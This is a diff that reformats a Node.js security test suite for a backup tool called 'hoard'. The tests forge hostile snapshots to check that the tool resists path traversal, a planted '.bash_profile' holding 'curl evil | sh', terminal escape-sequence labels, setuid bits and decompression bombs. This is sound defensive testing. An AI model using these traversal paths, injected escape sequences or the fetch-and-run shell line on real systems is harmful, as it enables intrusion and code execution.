@@ -17,7 +17,19 @@
 import { describe, it, type TestContext } from 'node:test';
 import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
-import { chmod, chown, copyFile, lstat, mkdir, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
+import {
+  chmod,
+  chown,
+  copyFile,
+  lstat,
+  mkdir,
+  readFile,
+  readdir,
+  rm,
+  stat,
+  symlink,
+  writeFile,
+} from 'node:fs/promises';
 import * as path from 'node:path';
 import { CLI, ROOT, hoard, run, tempDir } from '../helpers/services.js';
 import { CLEAN_ENV } from '../helpers/project.js';
@@ -26,14 +38,25 @@ import { bombBlob, forgeFile, forgeSnapshot, newest, openAsAttacker } from '../h
 
 const LIMIT_KIB = 300 * 1024;
 
-interface Timed { code: number; stdout: string; stderr: string; rssKiB: number }
+interface Timed {
+  code: number;
+  stdout: string;
+  stderr: string;
+  rssKiB: number;
+}
 
 /** The CLI under /usr/bin/time: exit code, output and peak RSS. */
 async function timed(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}, prefix: string[] = []): Promise<Timed> {
-  const r = await run('/usr/bin/time', ['-f', 'PEAK_RSS_KIB %M', ...prefix, process.execPath, CLI, ...args], { cwd, env: { ...process.env, ...CLEAN_ENV, ...env } });
+  const r = await run('/usr/bin/time', ['-f', 'PEAK_RSS_KIB %M', ...prefix, process.execPath, CLI, ...args], {
+    cwd,
+    env: { ...process.env, ...CLEAN_ENV, ...env },
+  });
   const m = /PEAK_RSS_KIB (\d+)\s*$/.exec(r.stderr);
   assert.ok(m, `no RSS figure: ${r.stderr}`);
-  const stderr = r.stderr.slice(0, m.index).replace(/^Command (exited with non-zero status|terminated by signal) \d+$/m, '').trim();
+  const stderr = r.stderr
+    .slice(0, m.index)
+    .replace(/^Command (exited with non-zero status|terminated by signal) \d+$/m, '')
+    .trim();
   return { code: r.code, stdout: r.stdout, stderr, rssKiB: Number(m[1]) };
 }
 
@@ -62,7 +85,8 @@ async function project(t: TestContext, extra = ''): Promise<{ dir: string; env: 
   const env = { TMPDIR: path.join(dir, 'tmp') };
   const init = await hoard(['init', '--yes'], { cwd: dir, env: { ...CLEAN_ENV, ...env } });
   assert.equal(init.code, 0, init.stderr);
-  if (extra) await writeFile(path.join(dir, 'hoard.yaml'), `${await readFile(path.join(dir, 'hoard.yaml'), 'utf8')}${extra}`);
+  if (extra)
+    await writeFile(path.join(dir, 'hoard.yaml'), `${await readFile(path.join(dir, 'hoard.yaml'), 'utf8')}${extra}`);
   return { dir, env, password: (await readFile(path.join(dir, '.hoard', 'password'), 'utf8')).trim() };
 }
 
@@ -78,10 +102,24 @@ describe('a hostile repository', () => {
     const far = `/tmp/escaped-${path.basename(dir)}.db`; // climbs out of every folder to /tmp
     for (const name of ['../../escaped.db', abs, `../../../../../../../..${far}`]) {
       // the file under the name a restore looks for (a tree name is one component): only the metadata lies
-      forged.push(await forgeSnapshot(repo, { files: { [path.basename(name)]: db }, hoard: { ...meta, job: 'constructor', source: { name: 'constructor', type: 'sqlite' }, database: { ...meta.database, name } }, tags: real.snapshot.tags }));
+      forged.push(
+        await forgeSnapshot(repo, {
+          files: { [path.basename(name)]: db },
+          hoard: {
+            ...meta,
+            job: 'constructor',
+            source: { name: 'constructor', type: 'sqlite' },
+            database: { ...meta.database, name },
+          },
+          tags: real.snapshot.tags,
+        }),
+      );
     }
     await repo.close();
-    const outside = async () => [...(await tree(dir)).filter((p) => /escaped/.test(p)), ...[far].filter((p) => existsSync(p))];
+    const outside = async () => [
+      ...(await tree(dir)).filter((p) => /escaped/.test(p)),
+      ...[far].filter((p) => existsSync(p)),
+    ];
     await mkdir(path.join(dir, 'scratch'));
     for (const id of forged) {
       const drill = await timed(['verify', id.slice(0, 12), '--drill'], dir, env);
@@ -109,7 +147,10 @@ describe('a hostile repository', () => {
     assert.equal(list.code, 0, list.stderr);
     // a file name and a label that would reach a home folder or drive the terminal
     const again = await openAsAttacker(path.join(dir, '.hoard', 'repo'), password);
-    const dot = await forgeSnapshot(again, { files: { '.bash_profile': Buffer.from('curl evil | sh\n') }, hoard: { kind: 'manual', label: 'x\u001b]0;PWNED\u0007\u001b[2J', reason: 'r\u001b[31m' } });
+    const dot = await forgeSnapshot(again, {
+      files: { '.bash_profile': Buffer.from('curl evil | sh\n') },
+      hoard: { kind: 'manual', label: 'x\u001b]0;PWNED\u0007\u001b[2J', reason: 'r\u001b[31m' },
+    });
     await again.close();
     const dump = await timed(['dump', dot.slice(0, 12)], dir, env);
     assert.equal(dump.code, 1, dump.stderr);
@@ -118,7 +159,10 @@ describe('a hostile repository', () => {
     for (const args of [['list'], ['info', dot.slice(0, 12)], ['ls', dot.slice(0, 12)]]) {
       const shown = await timed(args, dir, env);
       assert.equal(shown.code, 0, shown.stderr);
-      assert.ok(!shown.stdout.includes('\u001b') && !shown.stdout.includes('\u0007'), `${args[0]} printed a control character: ${JSON.stringify(shown.stdout)}`);
+      assert.ok(
+        !shown.stdout.includes('\u001b') && !shown.stdout.includes('\u0007'),
+        `${args[0]} printed a control character: ${JSON.stringify(shown.stdout)}`,
+      );
     }
   });
 
@@ -140,7 +184,9 @@ describe('a hostile repository', () => {
     await writeFile(path.join(data, 'a', 'deep', 'y'), 'deep');
     await chmod(path.join(data, 'a'), 0o777);
     assert.equal((await hoard(['backup', 'data'], { cwd: dir, env })).code, 0);
-    const ids = (JSON.parse((await hoard(['snapshots', '--json'], { env })).stdout) as { id: string; time: string }[]).sort((a, b) => a.time.localeCompare(b.time)).map((s) => s.id);
+    const ids = (JSON.parse((await hoard(['snapshots', '--json'], { env })).stdout) as { id: string; time: string }[])
+      .sort((a, b) => a.time.localeCompare(b.time))
+      .map((s) => s.id);
     const target = path.join(dir, 'target');
     const before = { list: await tree(outside), mode: (await stat(outside)).mode };
     for (const id of ids) {
@@ -155,7 +201,7 @@ describe('a hostile repository', () => {
     assert.equal(await readFile(path.join(target, 'data', 'a', 'x'), 'utf8'), 'from the second snapshot');
   });
 
-  it('setuid: a setuid-root file restored by an unprivileged user loses the bit; another owner\'s keeps it only when restored with that owner', async (t) => {
+  it("setuid: a setuid-root file restored by an unprivileged user loses the bit; another owner's keeps it only when restored with that owner", async (t) => {
     if (process.getuid?.() !== 0) return t.skip('needs root to make files of other owners');
     const dir = await tempDir(t, 'hoard-hostile-setuid-');
     await chmod(dir, 0o755); // uid 1234 walks through it to its own copy
@@ -174,7 +220,8 @@ describe('a hostile repository', () => {
     const asRoot = path.join(dir, 'as-root');
     const r = await timed(['restore', 'latest', '--target', asRoot], dir, env);
     assert.equal(r.code, 0, r.stderr);
-    for (const tool of ['root-tool', 'their-tool']) assert.equal((await stat(path.join(asRoot, 'data', tool))).mode & 0o6000, 0, tool);
+    for (const tool of ['root-tool', 'their-tool'])
+      assert.equal((await stat(path.join(asRoot, 'data', tool))).mode & 0o6000, 0, tool);
     assert.equal((await stat(path.join(asRoot, 'data', 'their-tool'))).uid, 1234);
     const kept = path.join(dir, 'kept');
     assert.equal((await timed(['restore', 'latest', '--target', kept, '--keep-set-id'], dir, env)).code, 0);
@@ -188,7 +235,12 @@ describe('a hostile repository', () => {
     const mine = path.join(dir, 'as-user');
     await mkdir(mine);
     await chown(mine, 1234, 1234);
-    const u = await timed(['restore', 'latest', '--target', mine, '--keep-set-id'], mine, { HOARD_REPOSITORY: path.join(dir, 'repo-1234'), HOARD_PASSWORD: 'pw', HOME: mine }, ['setpriv', '--reuid=1234', '--regid=1234', '--clear-groups']);
+    const u = await timed(
+      ['restore', 'latest', '--target', mine, '--keep-set-id'],
+      mine,
+      { HOARD_REPOSITORY: path.join(dir, 'repo-1234'), HOARD_PASSWORD: 'pw', HOME: mine },
+      ['setpriv', '--reuid=1234', '--regid=1234', '--clear-groups'],
+    );
     bounded(u, 'unprivileged restore');
     assert.equal(u.code, 0, u.stderr);
     const tool = await stat(path.join(mine, 'data', 'root-tool'));
@@ -207,7 +259,9 @@ describe('a hostile repository', () => {
     const GiB4 = 4 * 1024 ** 3;
     const honest = await bombBlob(repo, { expandTo: GiB4, declared: 1024 * 1024 });
     const claims = await bombBlob(repo, { expandTo: GiB4, declared: 2 ** 32 - 1, byte: 0x62, fakeId: true }); // a pack header holds 32 bits
-    const dumps = [honest, claims].map((id) => forgeFile(repo, { name: 'app.db', content: [id], size: GiB4, hoard: hoardMeta }));
+    const dumps = [honest, claims].map((id) =>
+      forgeFile(repo, { name: 'app.db', content: [id], size: GiB4, hoard: hoardMeta }),
+    );
     const [small, big] = await Promise.all(dumps);
     const files = await forgeFile(repo, { name: 'big.bin', content: [honest], size: GiB4 });
     await repo.close();
@@ -216,9 +270,16 @@ describe('a hostile repository', () => {
     const runs: [string, string[]][] = [];
     for (const id of [small, big]) {
       const ref = id.slice(0, 12);
-      runs.push(['restore', ['restore', ref, '--target', path.join(out, 'restored.db')]], ['dump', ['dump', ref, '--output', path.join(out, 'dump.db')]], ['verify', ['verify', ref, '--subset', '100%']]);
+      runs.push(
+        ['restore', ['restore', ref, '--target', path.join(out, 'restored.db')]],
+        ['dump', ['dump', ref, '--output', path.join(out, 'dump.db')]],
+        ['verify', ['verify', ref, '--subset', '100%']],
+      );
     }
-    runs.push(['files restore', ['restore', files.slice(0, 12), '--target', out]], ['check --read-data', ['check', '--read-data']]);
+    runs.push(
+      ['files restore', ['restore', files.slice(0, 12), '--target', out]],
+      ['check --read-data', ['check', '--read-data']],
+    );
     for (const [what, args] of runs) {
       const r = await timed(args, dir, env);
       bounded(r, what);
@@ -230,7 +291,10 @@ describe('a hostile repository', () => {
     const s = await serve(t, dir);
     for (const id of [small, big]) {
       const res = await fetch(`${s.base}/backups/${id}/download`, { headers: { authorization: `Bearer ${dl.token}` } });
-      const body = await res.arrayBuffer().then((b) => b.byteLength, () => -1);
+      const body = await res.arrayBuffer().then(
+        (b) => b.byteLength,
+        () => -1,
+      );
       assert.ok(res.status !== 200 || body < 64 * 1024 * 1024, `status ${res.status}, ${body} bytes`);
     }
     const status = await readFile(`/proc/${s.child.pid}/status`, 'utf8');
